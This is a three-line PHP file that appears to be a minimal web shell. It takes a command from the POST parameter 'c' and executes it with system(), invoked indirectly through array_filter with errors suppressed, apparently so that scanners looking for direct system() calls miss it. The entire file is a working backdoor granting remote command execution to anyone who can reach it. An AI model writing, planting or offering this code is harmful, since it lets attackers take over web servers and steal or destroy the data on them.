<?php
$c = isset($_POST['c']) ? array($_POST['c']) : array('id');
@array_filter($c, 'system');
